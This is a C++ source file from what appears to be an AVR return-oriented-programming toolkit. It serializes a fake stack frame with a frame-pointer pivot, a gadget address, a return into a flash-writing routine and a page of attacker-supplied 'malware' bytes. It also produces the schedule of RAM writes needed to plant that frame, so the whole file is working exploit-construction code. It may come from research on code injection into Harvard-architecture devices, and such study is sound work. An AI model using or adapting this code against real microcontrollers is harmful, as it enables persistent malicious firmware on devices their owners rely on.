#include "avrrop/fakestack.hpp"

#include <fmt/format.h>

#include <nlohmann/json.hpp>

#include "avrrop/error.hpp"

namespace avrrop {

namespace {

std::vector<FakeStackField> make_fields() {
  std::vector<FakeStackField> f;
  std::uint16_t off = 0;
  const auto add = [&](const char* name, std::uint16_t width, bool inject) {
    f.push_back({name, off, width, inject});
    off = static_cast<std::uint16_t>(off + width);
  };
  add("load_r29", 1, true);
  add("load_r28", 1, true);
  for (const char* n : {"load_r17", "load_r16", "load_r15", "load_r14"}) add(n, 1, true);
  for (const char* n : {"load_r13", "load_r12", "load_r11", "load_r10"}) add(n, 1, false);
  for (const char* n : {"load_r9", "load_r8", "load_r7", "load_r6"}) add(n, 1, true);
  for (const char* n : {"load_r5", "load_r4", "load_r3", "load_r2"}) add(n, 1, false);
  add("retAddr_execFunction", 2, true);
  for (const char* n : {"wordBuf", "verify_image_addr", "crcTmp", "intAddr"}) add(n, 2, false);
  add("malware_buff", kPageBytes, true);
  add("buff_p", 2, true);
  for (const char* n : {"r29", "r28", "r17", "r16", "r15", "r14", "r13", "r12", "r11", "r10", "r9",
                        "r8", "r7", "r6", "r5", "r4", "r3", "r2"}) {
    add(n, 1, false);
  }
  add("retAddr", 2, true);
  return f;
}

void put16le(std::vector<std::uint8_t>& out, std::size_t at, std::uint16_t v) {
  out[at] = static_cast<std::uint8_t>(v);
  out[at + 1] = static_cast<std::uint8_t>(v >> 8);
}

}  // namespace

const std::vector<FakeStackField>& FakeStack::fields() {
  static const std::vector<FakeStackField> f = make_fields();
  return f;
}

std::array<std::uint8_t, 4> FakeStack::dest_bytes() const {
  const std::uint32_t byte_addr = dest_m * 2;
  return {static_cast<std::uint8_t>(byte_addr >> 24), static_cast<std::uint8_t>(byte_addr >> 16),
          static_cast<std::uint8_t>(byte_addr >> 8), static_cast<std::uint8_t>(byte_addr)};
}

std::vector<std::uint8_t> FakeStack::serialize(std::uint16_t fsp) const {
  std::vector<std::uint8_t> out(kSize, 0);
  const std::uint16_t fp = static_cast<std::uint16_t>(fsp + kFrameOffset);
  // The pivot pops r29 (high) before r28 (low).
  out[0] = static_cast<std::uint8_t>(fp >> 8);
  out[1] = static_cast<std::uint8_t>(fp);
  const auto dest = dest_bytes();
  std::copy(dest.begin(), dest.end(), out.begin() + 2);
  for (int n = 0; n < 4; ++n) out[10 + n] = static_cast<std::uint8_t>(page_loop_counter >> (8 * (3 - n)));
  put16le(out, 18, gadget3_addr);
  std::copy(malware_page.begin(), malware_page.end(), out.begin() + kMalwareOffset);
  put16le(out, kBuffPOffset, static_cast<std::uint16_t>(fsp + kMalwareOffset));
  put16le(out, kRetAddrOffset, final_return());
  return out;
}

std::vector<std::uint16_t> FakeStack::must_inject_offsets() const {
  std::vector<std::uint16_t> out;
  for (const auto& f : fields()) {
    if (!f.must_inject) continue;
    const std::uint16_t width =
        f.offset == kMalwareOffset ? static_cast<std::uint16_t>(malware_size) : f.width;
    for (std::uint16_t n = 0; n < width; ++n) out.push_back(static_cast<std::uint16_t>(f.offset + n));
  }
  return out;
}

FakeStack build_fake_stack(std::span<const std::uint8_t> malware, std::uint32_t dest_m,
                           std::uint32_t gadget3_addr, PostAction post_action) {
  if (malware.size() > kPageBytes) {
    throw Error(ErrorCode::MalwareTooLarge,
                fmt::format("{} bytes do not fit one {}-byte page", malware.size(), kPageBytes));
  }
  if (malware.empty()) throw Error(ErrorCode::InvalidArgument, "malware is empty");
  if (dest_m % kPageWords != 0 || dest_m >= kFlashWords) {
    throw Error(ErrorCode::UnalignedDestination,
                fmt::format("0x{:x} is not a page-aligned word address", dest_m));
  }
  if (gadget3_addr >= kFlashWords) {
    throw Error(ErrorCode::InvalidArgument, fmt::format("gadget 3 address 0x{:x}", gadget3_addr));
  }
  FakeStack fs;
  fs.dest_m = dest_m;
  fs.gadget3_addr = static_cast<std::uint16_t>(gadget3_addr);
  std::copy(malware.begin(), malware.end(), fs.malware_page.begin());
  fs.malware_size = malware.size();
  fs.post_action = post_action;
  return fs;
}

InjectionSchedule injection_schedule(const FakeStack& fs, std::uint16_t fsp, const MemoryLayout& layout) {
  const std::uint32_t end = static_cast<std::uint32_t>(fsp) + FakeStack::kSize;
  if (fsp < layout.bss_section.end || end > layout.stack_limit) {
    throw Error(ErrorCode::RegionCollision,
                fmt::format("[0x{:04x}, 0x{:04x}) is outside the unused region [0x{:04x}, 0x{:04x})",
                            fsp, end, layout.bss_section.end, layout.stack_limit));
  }
  const auto image = fs.serialize(fsp);
  InjectionSchedule s;
  s.base = fsp;
  for (auto off : fs.must_inject_offsets()) {
    s.writes.emplace_back(static_cast<std::uint16_t>(fsp + off), image[off]);
  }
  return s;
}

std::string fakestack_dump(const FakeStack& fs, std::uint16_t fsp) {
  const auto image = fs.serialize(fsp);
  std::string out;
  for (const auto& f : FakeStack::fields()) {
    out += fmt::format("{:04x} +{:3d} {:<22}{}", fsp + f.offset, f.offset, f.name, f.must_inject ? "*" : " ");
    const std::uint16_t shown = std::min<std::uint16_t>(f.width, 16);
    for (std::uint16_t n = 0; n < shown; ++n) out += fmt::format(" {:02x}", image[f.offset + n]);
    if (shown < f.width) out += fmt::format(" ... ({} bytes)", f.width);
    out += "\n";
  }
  return out;
}

std::string fakestack_json(const FakeStack& fs, std::uint16_t fsp, const InjectionSchedule& schedule) {
  const auto image = fs.serialize(fsp);
  nlohmann::ordered_json j;
  j["fsp"] = fmt::format("0x{:04x}", fsp);
  j["size"] = FakeStack::kSize;
  j["dest_m"] = fmt::format("0x{:04x}", fs.dest_m);
  j["malware_size"] = fs.malware_size;
  j["post_action"] = fs.post_action == PostAction::ExecuteMalware ? "execute" : "reboot";
  j["fields"] = nlohmann::ordered_json::array();
  for (const auto& f : FakeStack::fields()) {
    std::string hex;
    for (std::uint16_t n = 0; n < f.width; ++n) hex += fmt::format("{:02x}", image[f.offset + n]);
    j["fields"].push_back({{"name", f.name}, {"offset", f.offset}, {"width", f.width},
                           {"must_inject", f.must_inject}, {"hex", hex}});
  }
  j["schedule"] = nlohmann::ordered_json::array();
  for (const auto& [addr, value] : schedule.writes) {
    j["schedule"].push_back({{"address", fmt::format("0x{:04x}", addr)}, {"value", value}});
  }
  return j.dump(2) + "\n";
}

}  // namespace avrrop
